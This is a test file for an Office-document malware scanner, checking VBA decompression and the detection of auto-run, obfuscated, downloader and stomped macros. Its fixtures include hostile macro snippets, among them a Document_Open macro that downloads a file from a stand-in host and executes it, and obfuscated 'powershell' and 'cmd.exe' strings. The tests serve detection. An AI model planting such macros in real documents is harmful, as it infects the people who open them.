import { Buffer } from 'node:buffer';

import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import { compound } from '../../../../message/open/archives/compound/test-support.ts';
import { codesOf, examine, vbaCompressed, vbaProject } from '../test-support.ts';
import { unveiled } from './vba.ts';
import { decompress } from './vba-compression.ts';

const document = (source: string, compiled?: Buffer): Buffer =>
  compound({
    WordDocument: Buffer.alloc(64),
    ...vbaProject([{ name: 'ThisDocument', source, ...(compiled && { compiled }) }]),
  });

describe('the compression of sources', () => {
  it.each([
    // The examples of [MS-OVBA] section 3.2.
    ['0119b000616263646566676800696a6b6c6d6e6f7000717273747576 2e', 'abcdefghijklmnopqrstuv.'],
    [
      '012fb00023616161626364658266007061676869 6a013808616b6c00306d6e6f700671027004107273747576107778797a003c',
      '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
    ],
    ['0103b002614500', 'a'.repeat(73)],
  ])('%s', (hex, text) => {
    expect(decompress(Buffer.from(hex.replaceAll(' ', ''), 'hex'), 1000).toString()).toBe(text);
  });

  it('undoes what was compressed, of any length', () => {
    const text = 'Sub Hello()\r\n'.repeat(1000);
    expect(decompress(vbaCompressed(text), 1e6).toString()).toBe(text);
    expect(decompress(vbaCompressed(text), 100)).toHaveLength(100);
  });

  it('survives anything', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), (bytes) => {
        expect(decompress(Buffer.concat([Buffer.from([1]), bytes]), 10_000).length).toBeLessThanOrEqual(10_000);
      }),
      { numRuns: 200 },
    );
  });
});

describe('macros', () => {
  it('are noted where there is code', async () => {
    expect(await codesOf(document('Sub Format()\r\n  Selection.Font.Bold = True\r\nEnd Sub\r\n'))).toEqual([
      'DOCUMENT_MACRO',
    ]);
    expect(await codesOf(document('Attribute VB_Base = "1"\r\n'))).toEqual([]);
  });

  it('may run by themselves to do their work', async () => {
    const source = 'Private Sub Workbook_Open()\r\n  Sheets(1).Activate\r\n  MsgBox "Good morning"\r\nEnd Sub\r\n';
    expect(await codesOf(document(source))).toEqual(['DOCUMENT_MACRO']);
  });

  it('may start programs when somebody asks for it', async () => {
    expect(await codesOf(document('Sub Button1_Click()\r\n  Shell "calc.exe", 1\r\nEnd Sub\r\n'))).toEqual([
      'DOCUMENT_MACRO',
    ]);
  });

  it.each([
    ['Sub AutoOpen()\r\n Shell "calc.exe"\r\nEnd Sub', 'AutoOpen: Shell "'],
    ['Sub Document_Open()\r\n Set s = CreateObject("WScript.Shell")\r\nEnd Sub', 'Document_Open: WScript.Shell'],
    ['Sub auto_close()\r\n x = "po" & "wer" + "sh" & _\r\n "ell"\r\nEnd Sub', 'auto_close: powershell'],
    ['Sub Workbook_Open()\r\n x = StrReverse("llehsrewop")\r\nEnd Sub', 'Workbook_Open: powershell'],
    ['Sub Workbook_Open()\r\n x = Chr(99) & Chr(109) & Chr(100) & ".exe"\r\nEnd Sub', 'Workbook_Open: cmd.exe'],
    [
      'Private Sub InkPicture1_Painted(ByVal d As Long)\r\n VirtualAlloc 0, 1\r\nEnd Sub',
      'InkPicture1_Painted: VirtualAlloc',
    ],
  ])('that run by themselves and start something: %s', async (source, evidence) => {
    const findings = await examine({ content: document(source) });
    expect(findings[1]).toMatchObject({ code: 'DOCUMENT_MACRO_AUTOEXEC', verdict: 'suspicious', evidence, part: 1 });
  });

  it('that fetch and run are a virus', async () => {
    const source = [
      'Sub Document_Open()',
      '  URLDownloadToFileA 0, "http://example.test/a", Environ("TEMP") & "\\a.dat", 0, 0',
      '  ShellExecute 0, "open", Environ("TEMP") & "\\a.dat", "", "", 0',
      'End Sub',
    ].join('\r\n');
    const findings = await examine({ content: document(source) });
    expect(findings[1]).toMatchObject({ code: 'DOCUMENT_MACRO_DOWNLOADER', verdict: 'infected' });
  });

  it('that hide letter by letter are suspicious', async () => {
    const source = `Sub AutoOpen()\r\n x = ${'Chr(k + 1) & '.repeat(30)}""\r\nEnd Sub`;
    expect(await codesOf(document(source))).toContain('DOCUMENT_MACRO_OBFUSCATED');
  });

  it('are found without the directory of the project', async () => {
    const { 'Macros/VBA/ThisDocument': stream } = vbaProject([
      { name: 'ThisDocument', source: 'Sub AutoOpen()\r\nShell "x"\r\nEnd Sub' },
    ]);
    expect(await codesOf(compound({ 'Macros/VBA/ThisDocument': stream ?? '' }))).toContain('DOCUMENT_MACRO_AUTOEXEC');
  });
});

describe('stomped macros', () => {
  const compiled = Buffer.from('\u0001\u0002 powershell -w hidden \u0003', 'latin1');

  it('have no source', async () => {
    expect(await codesOf(document('', compiled))).toEqual(['DOCUMENT_MACRO_STOMPED']);
  });

  it('have another source', async () => {
    expect(await codesOf(document('Sub AutoOpen()\r\nEnd Sub', compiled))).toEqual([
      'DOCUMENT_MACRO',
      'DOCUMENT_MACRO_STOMPED',
    ]);
  });

  it('are not those whose source says the same', async () => {
    expect(await codesOf(document('Sub Ask()\r\n x = "powershell"\r\nEnd Sub', compiled))).toEqual(['DOCUMENT_MACRO']);
  });
});

it('puts joined pieces, letters by number and reversed strings together', () => {
  expect(unveiled('Chr$(104) & "tt" + "p:" & _\r\n "//"')).toBe('"http://"');
  expect(unveiled('StrReverse("exe.dmc")')).toBe('"cmd.exe"');
});
